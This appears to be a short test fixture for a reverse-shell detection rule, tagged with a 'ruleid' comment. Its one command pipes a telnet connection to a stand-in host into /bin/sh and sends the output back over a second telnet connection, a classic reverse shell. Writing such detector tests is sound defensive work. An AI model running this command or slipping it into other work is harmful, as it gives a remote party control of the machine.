#!/bin/sh
# Two telnet connections with a shell between them.

# ruleid: yara.reverse_shells.netcat_exec
telnet 192.0.2.10 4444 | /bin/sh | telnet 192.0.2.10 4445
